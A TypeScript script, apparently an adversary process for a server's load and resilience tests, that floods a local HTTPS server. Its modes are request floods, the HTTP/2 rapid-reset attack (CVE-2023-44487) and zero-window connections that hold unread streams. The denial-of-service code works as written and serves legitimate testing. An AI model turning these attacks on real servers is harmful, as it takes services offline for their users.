import { Agent, request } from "node:https";
import { type ClientHttp2Session, connect, constants } from "node:http2";

/**
 * Somebody who does harm, in a process of its own until it is killed: domain, kind, and how many at once. Says what it
 * did, once a second, as one line of JSON.
 */
const [domain = "localhost", kind = "", many = "1"] = process.argv.slice(2);
const count = Number(many);
const did: Record<string, number> = {};
const note = (what: string): void => {
  did[what] = (did[what] ?? 0) + 1;
};
setInterval(() => {
  console.log(JSON.stringify(did));
}, 1_000);

const target = { host: "127.0.0.1", port: 443, servername: domain, rejectUnauthorized: false } as const;

/** As many requests as there are answers. */
function requests(path: string): void {
  const agent = new Agent({ keepAlive: true, maxSockets: count });
  const one = (): void => {
    const sent = request({ ...target, agent, path, headers: { Host: domain } }, (response) => {
      note(`answer ${String(response.statusCode)}`);
      response.resume().once("close", one);
    });
    sent.once("error", () => {
      note("broken off");
      setTimeout(one, 100);
    });
    sent.end();
  };
  for (let made = 0; made < count; made++) one();
}

function session(settings: { initialWindowSize?: number } = {}): ClientHttp2Session {
  const made = connect("https://127.0.0.1:443", { servername: domain, rejectUnauthorized: false, settings });
  made.on("error", () => {
    note("connection broken off");
  });
  made.on("goaway", (code: number) => {
    note(`sent away with ${code}`);
  });
  return made;
}

/**
 * Streams that are opened and given up at once, CVE-2023-44487: up to 500 a second on each connection. More than that is
 * a question of processors, which the tests beside this one have as well.
 */
function rapidResets(): void {
  for (let made = 0; made < count; made++) {
    let current = session();
    setInterval(() => {
      if (current.destroyed || current.closed) current = session();
      for (let stream = 0; stream < 10; stream++) {
        const opened = current.request({ ":path": "/", ":authority": domain });
        opened.on("error", () => undefined);
        opened.close(constants.NGHTTP2_CANCEL);
        note("reset");
      }
    }, 20);
  }
}

/** Connections with a hundred streams each, of a client that takes no byte of an answer. */
function unreadStreams(path: string): void {
  for (let made = 0; made < count; made++) {
    const unread = session({ initialWindowSize: 0 });
    for (let stream = 0; stream < 100; stream++) {
      const opened = unread.request({ ":path": path, ":authority": domain });
      opened.on("response", (headers) => {
        note(`answer ${String(headers[":status"])}`);
      });
      opened.on("error", () => {
        note("stream broken off");
      });
      opened.end();
    }
  }
}

const kinds: Readonly<Record<string, () => void>> = {
  pages: () => {
    requests("/");
  },
  "slow pages": () => {
    requests("/slow?seconds=1");
  },
  "rapid resets": rapidResets,
  "unread pages": () => {
    unreadStreams("/large?kilobytes=100");
  },
};
kinds[kind]?.();
